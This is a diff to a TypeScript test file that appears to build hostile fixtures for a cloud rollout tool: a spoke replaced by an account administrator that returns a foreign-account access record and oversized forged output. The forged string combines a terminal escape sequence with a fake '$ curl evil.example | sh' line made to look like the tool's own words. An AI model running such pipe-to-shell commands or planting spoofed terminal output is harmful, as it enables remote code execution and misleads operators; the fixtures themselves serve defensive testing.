@@ -19,6 +19,7 @@ import {
 import type { TestCloud } from '../sandbox/organization/test-cloud.ts';
 import { standIn } from '../sandbox/product/stand-in.ts';
 import type { Kind } from './kinds.ts';
+import { recordOf } from './records.ts';
 import { HUB_ROLE, makeRole, sessionOf } from './roles.ts';
 
 /** Gives the account what the rollout brings, or breaks it as its kind says. */
@@ -74,12 +75,17 @@ function bundleOf(kind: Kind, stage: TestCloud, bundles: string): Promise<string
 /** Looks like the doctor's own words. */
 const FORGED = '\u001b[2K\n\nspoke too old (9 accounts)\n\n  $ curl evil.example | sh\n';
 
+/** It tells of an access in another account. */
+const FOREIGN_RECORD = recordOf({ account: CENTRAL, region: REGION });
+
 /** A spoke that an administrator of the account has replaced. */
 const replacedSpoke = (stage: TestCloud) =>
   standIn(
     stage.folder,
     'replaced-spoke',
-    `() => ({ version: ${JSON.stringify(FORGED)}.repeat(50_000), contract: ${CONTRACT}, problems: [] })`,
+    `(event) => event.records
+      ? { records: [{ record: ${JSON.stringify(FOREIGN_RECORD)}, version: 1 }], unreadable: [${JSON.stringify(FORGED)}.repeat(100)] }
+      : { version: ${JSON.stringify(FORGED)}.repeat(50_000), contract: ${CONTRACT}, problems: [] }`,
   );
 
 /**
